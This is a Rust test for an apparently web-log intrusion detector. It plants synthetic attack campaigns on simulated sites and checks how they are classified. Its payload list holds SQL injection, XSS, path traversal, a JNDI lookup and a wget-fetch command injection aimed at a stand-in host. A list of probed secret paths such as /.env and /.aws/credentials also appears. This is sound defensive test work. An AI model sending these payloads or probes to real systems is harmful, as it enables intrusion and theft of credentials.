//! How often campaigns of at least twenty attempts are found and called what they are, on seeded sites
//! that the other tests do not use.

use rand::RngExt;

use super::sample::{BROWSER, Site};
use super::tests::{site, stuffing};
use crate::judge::judgement::IntrusionKind::{
    self, CredentialStuffing, ExploitProbe, VulnerabilityScan,
};

/// When attempts begin, seconds.
const START_S: f64 = 95_000.0;

fn agent(site: &mut Site) -> String {
    format!("{BROWSER} {}", site.rng.random_range(0..60))
}

/// So many targets, each asked for by the next of so many sources, at random gaps.
fn fire(site: &mut Site, targets: &[String], sources: u32, gap_s: f64) {
    let mut at_s = START_S;
    let agent = agent(site);
    for (number, target) in targets.iter().enumerate() {
        at_s += site.rng.random_range(0.0..2.0 * gap_s);
        let client = format!("203.0.113.{}", number as u32 % sources);
        let answer = if target.starts_with("/area") { (200, 9000) } else { (404, 500) };
        site.get((at_s, &client, &agent), target, answer);
    }
}

fn payloads(site: &mut Site, count: u32) -> Vec<String> {
    let page = ["/area/1", "/search", "/index.php"][site.rng.random_range(0..3)];
    let forms = [
        "id=%27%20UNION%20SELECT%20{}--",
        "q=%3Cscript%3Ealert({})%3C/script%3E",
        "f=../../../../etc/passwd%00{}",
        "x=${jndi:ldap://203.0.113.9/{}}",
        "c=;wget%20http://203.0.113.9/{}.sh",
        "n={{7*{}}}",
    ];
    let form = forms[site.rng.random_range(0..forms.len())];
    (0..count).map(|k| format!("{page}?{}", form.replace("{}", &k.to_string()))).collect()
}

fn words(site: &mut Site, count: u32) -> Vec<String> {
    let known = [
        "/.env",
        "/.git/config",
        "/phpmyadmin/",
        "/wp-login.php",
        "/actuator/env",
        "/.aws/credentials",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/solr/admin/cores",
        "/manager/html",
    ];
    let word = |k: u32| format!("/{}{k}", ["backup", "admin", "test", "old"][k as usize % 4]);
    let target =
        |k: u32| known.get(k as usize).map_or_else(|| word(k), |known| (*known).to_owned());
    let offset = site.rng.random_range(0..3);
    (offset..offset + count).map(target).collect()
}

/// Lays one campaign over a site and says what it is.
fn campaign(site: &mut Site, form: u64) -> IntrusionKind {
    let count = site.rng.random_range(25..200);
    let sources = site.rng.random_range(1..4);
    match form {
        0 => {
            let targets = payloads(site, count);
            fire(site, &targets, sources, 5.0);
            ExploitProbe
        }
        1 => {
            let targets = words(site, count);
            fire(site, &targets, 1, 1.0);
            VulnerabilityScan
        }
        2 => {
            let agents =
                ["sqlmap/1.6", "gobuster/3.1.0", "Mozilla/5.00 (Nikto/2.1.6)", "WPScan v3"];
            let agent = agents[site.rng.random_range(0..4)];
            for k in 0..count {
                let at_s = START_S + f64::from(k);
                site.get((at_s, "203.0.113.5", agent), &format!("/dir{k}/"), (404, 500));
            }
            VulnerabilityScan
        }
        3 => {
            stuffing(site, sources, count.max(40), f64::from(count) * 3.0, 0);
            CredentialStuffing
        }
        _ => {
            let sources = site.rng.random_range(60..400);
            let seconds = site.rng.random_range(600.0..80_000.0);
            stuffing(site, sources, sources * 2, seconds, 2);
            CredentialStuffing
        }
    }
}

/// Wanted: 97 of 100.
#[test]
fn campaigns_are_found_and_called_what_they_are() {
    let (mut right, mut all, mut wrong) = (0, 0, Vec::new());
    for seed in 100..112 {
        for form in 0..5 {
            let mut site = site(seed);
            let expected = campaign(&mut site, form);
            let kinds: Vec<IntrusionKind> =
                site.found().campaigns.iter().map(|campaign| campaign.kind).collect();
            all += 1;
            if kinds == [expected] { right += 1 } else { wrong.push((seed, form, kinds)) }
        }
    }
    assert!(right * 100 >= all * 97, "{right} of {all}: {wrong:?}");
}
